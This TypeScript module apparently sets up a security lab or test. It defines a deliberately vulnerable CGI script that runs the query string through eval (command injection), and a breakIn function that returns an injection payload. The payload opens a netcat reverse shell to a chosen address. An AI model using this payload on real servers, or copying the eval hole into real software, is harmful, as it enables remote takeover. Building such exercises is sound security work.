/** The shop's one program, a script as many are written; it trusts what it is asked. */

/** Where the containers and this host have its configuration. */
export const configuration = "etc/shop.conf";
export const script = "srv/cgi-bin/order.sh";
/** Of its web server: what runs such a script. */
export const webConfiguration = { path: "etc/httpd.conf", text: "*.sh:/bin/sh\n" } as const;
export const page = "/cgi-bin/order.sh";

export const source = `#!/bin/sh
# Takes an order: ?item=NAME
. /${configuration}
asked=$(httpd -d "\${QUERY_STRING#item=}")
eval "item=$asked"
head='Content-Type: text/plain\\r\\n\\r\\n'
for upstream in $UPSTREAMS; do
  if ! said=$(wget -q -O - "$upstream?item=$item" 2>&1); then
    printf "Status: 502 Bad Gateway\\r\\n$head%s\\n" "$said"
    exit
  fi
done
printf "$head%s\\n" "ordered: $item"
`;

export function configurationFor(upstreams: readonly string[]): string {
  return `UPSTREAMS="${upstreams.join(" ")}"\n`;
}

/** What comes after the semicolon is for the shell. */
export function breakIn({ address, port }: { readonly address: string; readonly port: number }) {
  return `tea;nc -w 1 ${address} ${port} -e /bin/sh`;
}
